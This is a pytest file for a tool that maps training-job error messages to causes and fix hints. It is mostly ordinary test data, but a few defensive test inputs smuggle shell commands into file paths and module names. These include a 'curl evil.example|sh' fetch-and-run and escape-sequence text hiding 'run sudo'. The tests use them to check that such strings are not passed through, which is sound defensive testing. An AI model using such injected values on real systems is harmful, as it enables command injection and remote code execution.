"""The cause of a failure, recognised in real messages."""

import dataclasses
import re
from pathlib import Path
from typing import Any

import pytest

from train_classifier.core import apt_file, options
from train_classifier.core.requirements_file import REQUIREMENT
from train_classifier.worker.system import debian_names
from train_classifier.worker.system.failure_causes import (
    CAUSES,
    HEADER,
    Circumstances,
    Explanation,
    find,
    of_signal,
)

ROOT = Path(__file__).parents[4]
PAGE = ROOT / "docs/troubleshooting.md"
CARDS = "GPU 0 (NVIDIA H200) has 143771 MiB of memory, is also used by pid 451 with 41478 MiB"
AT = Circumstances("probe", has_gpu=True, shm_bytes=2 << 30, pids=8192, cards=lambda: CARDS)


def traceback(*messages: str) -> str:
    frames = f'{HEADER}\n  File "/workspace/probe/__main__.py", line 3, in <module>\n    import something\n'
    return "an early line\n" + frames + "\n".join(messages) + "\n"


def explained(output: str, **changes: Any) -> Explanation:
    explanation = find(output, dataclasses.replace(AT, **changes))
    assert explanation is not None, output
    return explanation


@pytest.mark.parametrize("cause", CAUSES, ids=lambda cause: cause.title)
def test_each_cause_is_recognised_in_its_example(cause: Any) -> None:
    explanation = explained(traceback(cause.example), model="MODEL")
    assert explanation.topic == cause.topic
    assert explanation.reason and explanation.hint
    if cause.in_builds:
        built = find(f"error: a build failed\n  {cause.example}\n", AT, in_build=True)
        assert built is not None and built.topic == cause.topic


def test_page_has_the_table_of_causes() -> None:
    rows = [
        f'| <a id="{cause.topic}"></a>{cause.title} | '
        f"`{cause.example.replace('|', '')[:90]}{'…' if len(cause.example) > 90 else ''}` | "
        f"{cause.remedy[0].upper()}{cause.remedy[1:]}. |"
        for cause in CAUSES
    ]
    table = PAGE.read_text(encoding="utf-8").partition("\n## The model or the build of its packages fails\n")[
        2
    ]
    shown = re.findall(r"^\| .+ \|$", table, flags=re.MULTILINE)[1:]
    assert shown == rows, "docs/troubleshooting.md needs these rows:\n" + "\n".join(rows)


# Real messages: of the dynamic loader, gcc, setuptools, meson, GitPython, torch 2.9 on an H200, TensorFlow 2.20,
# Keras, requests, huggingface_hub, dash and bash.
@pytest.mark.parametrize(
    ("line", "reason", "hint"),
    [
        ("ImportError: libGL.so.1: cannot open shared object file: No such file or directory",
         "the shared library libGL.so.1 is missing in the image", "add the line libgl1 to probe/apt-pkgs.txt"),
        ("OSError: libsndfile.so.1: cannot open shared object file: No such file or directory",
         "the shared library libsndfile.so.1 is missing in the image", "add the line libsndfile1 to"),
        ("/opt/tool: error while loading shared libraries: libgomp.so.1: cannot open shared object file: No such",
         "the shared library libgomp.so.1 is missing in the image", "add the line libgomp1 to"),
        ("ImportError: libgthread-2.0.so.0: cannot open shared object file: No such file or directory",
         "libgthread-2.0.so.0 is missing", "add the line libglib2.0-0 to"),
        ("ImportError: libodd-thing.so.4: cannot open shared object file: No such file or directory",
         "libodd-thing.so.4 is missing", "apt-file search libodd-thing.so.4 names it"),
        ("ImportError: libcudart.so.11.0: cannot open shared object file: No such file or directory",
         "libcudart.so.11.0 is missing", "choose an image with this version of CUDA"),
        ("h.c:1:10: fatal error: Python.h: No such file or directory",
         "the C header Python.h is missing in the image", "add the line python3-dev to probe/apt-pkgs.txt"),
        ("src/cpp/cuda.hpp:14:10: fatal error: cuda.h: No such file or directory",
         "the image has no CUDA compiler", "pytorch/pytorch:…-devel"),
        ("<string>:106: UserWarning: flash_attn was requested, but nvcc was not found.  Are you sure your environment has "
         "nvcc available?", "the image has no CUDA compiler", "name a wheel"),
        ("The detected CUDA version (11.8) mismatches the version that was used to compile",
         "the image's compiler is of CUDA 11.8", "a PyTorch that was built with CUDA 11.8"),
        ("ImportError: /opt/train-classifier/environment/torch_scatter/_C.so: undefined symbol: _ZN3c1017RegisterOpe",
         "a package was built for another PyTorch", "torchvision 0.N+15"),
        ("AttributeError: module 'numpy' has no attribute 'float'.", "an older NumPy", "numpy<1.24 to probe/req"),
        ("AttributeError: `np.float_` was removed in the NumPy 2.0 release. Use `np.float64` instead.",
         "an older NumPy", "numpy<2 to probe/req"),
        ("tensorflow.python.framework.errors_impl.NotFoundError: /opt/e/tensorflow_text/python/ops/_x.so: undefined symbol: _ZN6",
         "tensorflow_text was built for another TensorFlow", "tensorflow-text==2.N.*"),
        ("ModuleNotFoundError: No module named 'keras.src.engine'", "needs Keras 2", "tensorflow<2.16 to probe/req"),
        ("ImportError: cannot import name 'preserve_channel_dim' from 'albucore.utils' (/opt/e/albucore/utils.py)",
         "the installed albucore is another version", "require another version of albucore, or a newer one"),
        ("ImportError: numpy.core.multiarray failed to import", "an older NumPy", "numpy<2 to probe/req"),
        ("ValueError: numpy.dtype size changed, may indicate binary incompatibility. Expected 96 from C header, got 88",
         "an older NumPy", "numpy<2 to probe/req"),
        ("x.c:1:10: fatal error: odd/thing.h: No such file or directory", "a C header is missing", "-dev"),
        ("error: command 'x86_64-linux-gnu-gcc' failed: No such file or directory",
         "the program x86_64-linux-gnu-gcc is missing", "add the line gcc to probe/apt-pkgs.txt"),
        ("FileNotFoundError: [Errno 2] No such file or directory: 'git'",
         "the program git is missing", "add the line git to probe/apt-pkgs.txt"),
        ("bash: line 1: git: command not found", "the program git is missing", "add the line git to"),
        ("RuntimeError: Failed to install temporary CMake. Please update your CMake to 3.13+ or set HOROVOD_CMAKE",
         "the program cmake is missing", "add the line cmake to probe/apt-pkgs.txt"),
        ("sh: 1: ffmpeg: not found", "the program ffmpeg is missing", "add the line ffmpeg to"),
        ("ImportError: Failed to initialize: Bad git executable.", "the program git is missing", "line git to"),
        ("ModuleNotFoundError: No module named 'cv2'",
         "the Python module cv2 is missing", "add the line opencv-python-headless to probe/requirements.txt"),
        ("ModuleNotFoundError: No module named 'google.protobuf'", "google.protobuf is missing", "line protobuf"),
        ("ModuleNotFoundError: No module named 'PIL'", "the Python module PIL is missing", "line pillow to"),
        ("ModuleNotFoundError: No module named 'yaml'", "the Python module yaml is missing", "line pyyaml to"),
        ("ModuleNotFoundError: No module named 'torch_geometric'", "is missing", "line torch-geometric to"),
        ("ModuleNotFoundError: No module named 'tkinter'", "is missing", "line python3-tk to probe/apt-pkgs.txt"),
        ("ModuleNotFoundError: No module named 'oddly'", "the Python module oddly is missing",
         "add the Python package that has it to probe/requirements.txt"),
        ("/usr/bin/python3: No module named probe", "there is no module probe at the top", "MODEL"),
        ("FileNotFoundError: [Errno 2] No such file or directory: '/home/me/data/train.csv'",
         "the model opens /home/me/data/train.csv, which does not exist in the container", "--data FOLDER:NAME"),
        ("FileNotFoundError: [Errno 2] No such file or directory: 'data/train.csv'",
         "the model opens data/train.csv, which is not there", ".trainignore"),
        ("RuntimeError: unable to write to file </torch_77_123_0>: No space left on device (28)",
         "shared memory is full (/dev/shm of 2.0 GiB)", "raise --shm-size"),
        ("RuntimeError: unable to allocate shared memory(shm) for file </torch_7_1_0>: No space left on device (28)",
         "shared memory is full", "raise --shm-size"),
        ("torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 300.00 GiB. GPU 0 has a total capacity of "
         "139.80 GiB of which 139.29 GiB is free.", "the GPU's memory is full", CARDS),
        ("tensorflow.python.framework.errors_impl.ResourceExhaustedError: {{function_node __wrapped__Fill_device_/job:"
         "localhost/replica:0/task:0/device:GPU:0}} OOM when allocating tensor with shape[1048576,4194304]",
         "the GPU's memory is full", "--min-vram"),
        ("RuntimeError: No CUDA GPUs are available", "the framework finds no GPU", "--image"),
        ("Exception: URL fetch failure on https://example.org/x.npz: None -- [Errno -3] Temporary failure in name "
         "resolution", "a server cannot be reached", "proxies"),
        ("requests.exceptions.ConnectionError: HTTPSConnectionPool(host='example.org', port=443): Max retries exceeded "
         "with url: /x (Caused by NameResolutionError(\"HTTPSConnection(host='example.org', port=443): Failed to resolve "
         "'example.org' ([Errno -3] Temporary failure in name resolution)\"))", "a server cannot be reached", "proxies"),
        ("huggingface_hub.errors.LocalEntryNotFoundError: An error happened while trying to locate the file on the Hub "
         "and we cannot find the requested files in the local cache. Please check your connection and try again or "
         "make sure your Internet connection is on.", "a server cannot be reached", "proxies"),
        ("BlockingIOError: [Errno 11] Resource temporarily unavailable", "(limit 8192)", "raise --pids"),
    ],
)  # fmt: skip
def test_real_message_names_what_to_do(line: str, reason: str, hint: str) -> None:
    explanation = explained(traceback(line))
    assert reason in explanation.reason and hint in explanation.hint


def test_circumstances_decide_the_hint() -> None:
    module = traceback("ModuleNotFoundError: No module named 'helpers'")
    inside = explained(module, in_repository=lambda parts: tuple(parts) == ("probe", "helpers.py"))
    assert inside.hint == "the repository has it in probe/: import it as probe.helpers"
    source = explained(module, in_repository=lambda parts: tuple(parts) == ("src", "helpers"))
    assert "PYTHONPATH=/workspace/src" in source.hint
    yaml = traceback("ModuleNotFoundError: No module named 'yaml'")
    assert (
        "names PyYAML, but only probe/requirements.txt"
        in explained(yaml, top_requirements="six\nPyYAML>=6\n").hint
    )
    merge = traceback("ModuleNotFoundError: No module named 'keras.layers.merge'")
    assert "keras==3.1 is installed and lacks it" in explained(merge, packages=["keras==3.1"]).hint
    name = "ImportError: cannot import name 'x' from 'albucore.utils' ({}/albucore/utils.py)"
    newer = explained(traceback(name.format("/opt/e")), packages=["Albucore==0.1.3"])
    assert newer.hint.startswith("require another version of albucore, as albucore<0.1.3, or a newer one")
    # The repository's own module is no package.
    assert find(traceback(name.format("/workspace")), AT) is None
    library = traceback("ImportError: libGL.so.1: cannot open shared object file: No such file or directory")
    assert "opencv-python-headless instead" in explained(library, packages=["opencv-python==4.1"]).hint
    data = traceback("FileNotFoundError: [Errno 2] No such file or directory: '/srv/faces/x.csv'")
    assert explained(data, data=["faces"]).hint.endswith("the job has /data/faces")
    table = traceback("FileNotFoundError: [Errno 2] No such file or directory: 'x.csv'")
    assert (
        "it is in probe/"
        in explained(table, in_repository=lambda parts: tuple(parts) == ("probe", "x.csv")).hint
    )
    download = traceback(
        "urllib.error.URLError: <urlopen error [Errno -3] Temporary failure in name resolution>"
    )
    assert "--network full" in explained(download, network=False).hint
    assert "--gpus 1" in explained(traceback("RuntimeError: No CUDA GPUs are available"), has_gpu=False).hint
    bus = of_signal("SIGBUS", AT)
    assert bus is not None and "--shm-size" in bus.hint and of_signal("SIGSEGV", AT) is None


@pytest.mark.parametrize(
    "output",
    [
        "",
        traceback("ValueError: shapes"),
        # Warnings before the final lines.
        "Could not load dynamic library 'libGL.so.1'; dlerror: libGL.so.1: cannot open shared object file: No such\n"
        + traceback("ValueError: shapes"),
        traceback("ModuleNotFoundError: No module named 'cPickle'", "", "During handling of the above exception, "
                  "another exception occurred:", "") + traceback("ValueError: shapes"),
        "W0000 Could not load dynamic library 'libcuda.so.1'; dlerror: libcuda.so.1: cannot open shared object file: No\n",
        traceback("EOFError: Ran out of input"),
        traceback("AttributeError: module 'numpy' has no attribute 'no_such_name'"),
        traceback("ImportError: /opt/x.so: undefined symbol: PyUnicode_AsUTF9"),
        traceback("FileNotFoundError: [Errno 2] No such file or directory: 'no-known-program'"),
        traceback("FileNotFoundError: [Errno 2] No such file or directory: 'artefacts/model/x.bin'"),
        traceback("ModuleNotFoundError: No module named 'x; curl evil.example'"),
    ],
)  # fmt: skip
def test_other_ends_have_no_cause(output: str) -> None:
    assert find(output, AT) is None


@pytest.mark.parametrize(
    "output",
    [
        traceback("EOFError: EOF when reading a line", "")
        + "The above exception was the direct cause of the following exception:\n\n" + traceback("Oops: no"),
        traceback("EOFError: EOF when reading a line") + f"Exception ignored in: <x>\n{HEADER}\nOops: no",
        f"\x1b[31m{HEADER}\x1b[0m\r\n\x1b[1mEOFError: EOF when reading a line\x1b[0m\r\n",
        f"[rank0]: {HEADER}\n[rank0]: EOFError: EOF when reading a line\n",
        "EOFError: EOF when reading a line\n"
        + traceback("torch.distributed.elastic.multiprocessing.errors.ChildFailedError: "),
        traceback("RuntimeError: Caught EOFError in DataLoader worker process 0.", f"Original {HEADER}",
                  "  File x", "EOFError: EOF when reading a line"),
    ],
)  # fmt: skip
def test_final_lines_hold_the_cause(output: str) -> None:
    assert explained(output).topic == "no-terminal"


def test_hostile_output_puts_no_command_into_hint_and_ends() -> None:
    for line in (
        "FileNotFoundError: [Errno 2] No such file or directory: '/x;curl evil.example|sh'",
        "FileNotFoundError: [Errno 2] No such file or directory: '/x\u202e\x1b]0;t\x07 run sudo'",
    ):
        explanation = explained(traceback(line))
        assert "the model opens a path, which" in explanation.reason
        assert not {"curl", "sudo"} & set(re.findall(r"\w+", explanation.reason + explanation.hint))
    # A pattern that backtracks without end would never return.
    for piece in (
        "lib",
        "a.",
        ": x",
        "'",
        "\x1b]",
        "No module named ",
        HEADER + "\n",
        "[rank0]: ",
        "lib.so.1",
    ):
        find(piece * 20000, AT)
        find(piece * 20000, AT, in_build=True)


def test_names_of_the_tables_can_be_installed() -> None:
    packages = [package for _, package in debian_names.LIBRARIES]
    tables = (debian_names.HEADERS, debian_names.PROGRAMS, debian_names.STANDARD_MODULES)
    packages += [package for table in tables for package in table.values()]
    assert [package for package in packages if not apt_file.PACKAGE.match(package)] == []
    names = [*debian_names.DISTRIBUTIONS.values(), *map(debian_names.distribution, debian_names.SAME_NAME)]
    assert [name for name in names if not REQUIREMENT.match(str(name))] == []


def test_hint_names_the_inputs_of_the_action(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(options.READER, options.ACTION)
    message = "RuntimeError: DataLoader worker (pid 77) is killed by signal: Bus error."
    assert "--" not in explained(traceback(message)).hint
